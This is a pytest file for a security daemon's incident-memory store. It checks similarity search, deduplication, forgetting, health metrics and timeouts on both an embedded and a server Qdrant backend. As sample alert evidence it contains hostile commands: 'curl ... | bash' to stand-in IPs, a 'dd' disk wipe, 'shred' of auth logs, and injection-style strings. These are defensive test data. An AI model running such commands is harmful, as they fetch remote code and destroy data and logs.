"""What every `Memory` promises: the same cases on the embedded one and on the server one.

The embedded one is a real worker with a real Qdrant Edge shard; the server one talks to qdrant-client's in-memory
engine in place of a server. Both embed with a bag of words, so that scores are known.
"""

import asyncio
import os
import signal
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import TypeAlias

import pytest
from qdrant_client import AsyncQdrantClient

from daemon.config.schema import Memory as MemoryConfig
from daemon.enrichment import Memory
from daemon.enrichment.memory_child import MemoryChild
from daemon.enrichment.memory_edge import EdgeMemory
from daemon.enrichment.memory_server import ServerMemory
from daemon.model import Alert, Evidence, Transient
from daemon.telemetry import Board, HealthState, Metrics
from tests.doubles.running import running, spawned, started
from tests.doubles.values import T0, a_rule, an_alert
from tests.doubles.worker import FAKE, ROOT

pytestmark = pytest.mark.filterwarnings("ignore:Payload indexes have no effect in the local Qdrant")

CONFIG = MemoryConfig(timeout=20, min_score=0.6)
AnyMemory: TypeAlias = EdgeMemory | ServerMemory


class Bench:
    """A memory under test with its board and metrics."""

    def __init__(self, kind: str, directory: Path, config: MemoryConfig = CONFIG) -> None:
        self.board, self.metrics = Board(lambda: T0), Metrics()
        self.memory: AnyMemory
        if kind == "edge":
            self.memory = EdgeMemory(
                config,
                directory,
                board=self.board,
                metrics=self.metrics,
                now=lambda: T0 + 10**6,
                monotonic=lambda: 0.0,
                embedder=FAKE,
            )
        else:
            self.memory = ServerMemory(
                config,
                MemoryChild(config, None, embedder=FAKE),
                board=self.board,
                metrics=self.metrics,
                now=lambda: T0 + 10**6,
                monotonic=lambda: 0.0,
                client=AsyncQdrantClient(":memory:"),
            )

    async def well(self) -> None:
        """Wait until the memory works."""
        await started(self.memory.child)
        await self.memory.count()
        row = self.board.get("memory")
        assert row is not None
        assert row.state is HealthState.ok


@pytest.fixture(params=["edge", "server"])
def kind(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("PYTHONPATH", str(ROOT))
    return str(request.param)


@pytest.fixture
async def memory(kind: str, tmp_path: Path) -> AsyncIterator[Memory]:
    bench = Bench(kind, tmp_path)
    async with running(bench.memory.run()):
        await bench.well()
        yield bench.memory


def an_incident(number: int, command: str = "curl http://203.0.113.9/x | bash", **changes: object) -> Alert:
    evidence = Evidence(
        id="E1",
        at=T0,
        source="audit",
        text="raw",
        fields={"CommandLine": command, "Image": f"/usr/bin/{command.split(maxsplit=1)[0]}"},
    )
    values: dict[str, object] = {
        "incident_id": f"inc_{number}",
        "entity": f"User=u{number}",
        "last_at": T0 + number,
        "evidence": (evidence,),
        **changes,
    }
    return an_alert(number, **values)


async def test_an_empty_memory_finds_nothing(memory: Memory) -> None:
    assert await memory.count() == 0
    assert list(await memory.find(an_incident(1), 3)) == []
    assert list(await memory.search("anything at all", 3)) == []


async def test_a_past_incident_of_the_same_cause_is_found_with_all_that_is_known(memory: Memory) -> None:
    await memory.remember(an_incident(1, count=4), "true positive: host rebuilt")
    (found,) = await memory.find(an_incident(2, "curl http://198.51.100.77:8080/x | bash"), 3)
    assert found.incident_id == "inc_1"
    assert found.score == pytest.approx(1.0, abs=1e-5)
    assert found.score <= 1.0
    assert (found.title, found.at, found.count, found.entity) == ("Download piped to a shell", T0 + 1, 4, "User=u1")
    assert found.outcome == "true positive: host rebuilt"
    assert found.why == "same rule, same program curl, same technique T1059.004"


async def test_its_own_incident_is_never_found(memory: Memory) -> None:
    await memory.remember(an_incident(1))
    assert list(await memory.find(an_incident(1), 3)) == []


async def test_below_the_threshold_nothing_is_similar(memory: Memory) -> None:
    other = an_incident(
        1, "dd if=/dev/zero of=/dev/sda", rule=a_rule(id="r2", title="Disk overwritten"), because="dd of a whole disk"
    )
    await memory.remember(other)
    assert list(await memory.find(an_incident(2), 3)) == []


async def test_remembering_again_replaces(memory: Memory) -> None:
    for outcome in ("", "benign", "false positive"):
        await memory.remember(an_incident(1), outcome)
    assert await memory.count() == 1
    (found,) = await memory.find(an_incident(2), 3)
    assert found.outcome == "false positive"


async def test_repeats_are_one_result_and_the_one_with_an_outcome(memory: Memory) -> None:
    for first in range(1, 91, 30):
        numbers = range(first, first + 30)
        await asyncio.gather(
            *(memory.remember(an_incident(n, entity="User=bob"), "benign" if n == 40 else "") for n in numbers)
        )
    await memory.remember(an_incident(200, entity="User=eve"))
    found = await memory.find(an_incident(300, entity="User=bob"), 3)
    assert [(one.incident_id, one.outcome) for one in found] == [("inc_40", "benign"), ("inc_200", "")]
    assert found[0].why.startswith("same rule, same entity, same program curl")


async def test_equal_similarity_goes_by_outcome_then_recency_and_the_limit_holds(memory: Memory) -> None:
    for number in range(1, 7):
        await memory.remember(an_incident(number), "benign" if number in {2, 3} else "")
    found = await memory.find(an_incident(100), 4)
    assert [one.incident_id for one in found] == ["inc_3", "inc_2", "inc_6", "inc_5"]
    assert len(await memory.find(an_incident(100), 1)) == 1
    assert list(await memory.find(an_incident(100), 0)) == []


async def test_a_question_finds_by_words(memory: Memory) -> None:
    await memory.remember(an_incident(1))
    await memory.remember(
        an_incident(2, "shred -u /var/log/auth.log", because="logs", rule=a_rule(id="r", title="Logs shredded"))
    )
    found = await memory.search("shred /var/log/auth.log logs shredded", 3)
    assert [one.incident_id for one in found] == ["inc_2"]
    assert found[0].why == "similar wording"
    assert list(await memory.search("  \n ", 3)) == []


async def test_hostile_text_is_only_text(memory: Memory) -> None:
    words = '\x00\ud800 {"must": []} \' OR 1=1 \x1b[2J \u202e' + "x" * 100_000
    hostile = an_incident(
        1, words, entity=words, because=words, host=words, rule=a_rule(title=words), incident_id=words
    )
    await memory.remember(hostile, words)
    assert await memory.count() == 1
    await memory.search(words, 3)
    assert list(await memory.find(hostile, 3)) == []
    assert len(await memory.find(an_incident(2, words, because=words, rule=a_rule(title=words)), 3)) == 1


async def test_forgotten_incidents_are_gone(memory: AnyMemory) -> None:
    await memory.remember(an_incident(1))
    await memory.remember(an_incident(2))
    await memory.forget(["inc_1", "inc_9", "\ud800"])
    assert await memory.count() == 1
    assert [one.incident_id for one in await memory.find(an_incident(3), 3)] == ["inc_2"]


async def test_before_it_runs_and_after_it_is_unavailable(kind: str, tmp_path: Path) -> None:
    bench = Bench(kind, tmp_path)
    calls: list[Callable[[], Awaitable[object]]] = [
        bench.memory.count,
        lambda: bench.memory.find(an_incident(1), 3),
        lambda: bench.memory.search("words", 3),
        lambda: bench.memory.remember(an_incident(1)),
    ]
    for call in calls:
        with pytest.raises(Transient) as caught:
            await call()
        assert caught.value.why == "unavailable"
    async with running(bench.memory.run()):
        await bench.well()
        await bench.memory.remember(an_incident(1))
    for call in calls:
        with pytest.raises(Transient):
            await call()


async def test_health_and_metrics_follow(kind: str, tmp_path: Path) -> None:
    bench = Bench(kind, tmp_path)
    async with running(bench.memory.run()) as task:
        await bench.well()
        await bench.memory.remember(an_incident(1))
        assert len(await bench.memory.find(an_incident(2), 3)) == 1
        assert bench.metrics.registry.get_sample_value("tellwhy_memory_incidents") == 1
        searches = {"outcome": "found"}
        assert bench.metrics.registry.get_sample_value("tellwhy_memory_searches_total", searches) == 1
        child = bench.memory.child
        assert child.pid is not None
        os.kill(child.pid, signal.SIGKILL)
        await asyncio.wait([task])
        assert isinstance(task.exception(), Transient)
        row = bench.board.get("memory")
        assert row is not None
        assert row.state is HealthState.degraded
        assert "killed by signal 9" in row.detail
    async with running(bench.memory.run()):
        await bench.well()
        if kind == "edge":
            assert await bench.memory.count() == 1


async def test_a_bounded_wait(kind: str, tmp_path: Path) -> None:
    """A model that takes too long to load is a timeout, not a wait."""
    config = MemoryConfig(timeout=0.01, min_score=0.6)
    bench = Bench(kind, tmp_path, config)
    async with running(bench.memory.run()):
        await spawned(bench.memory.child)
        with pytest.raises(Transient) as caught:
            await bench.memory.find(an_incident(1), 3)
        assert caught.value.why == "timeout"
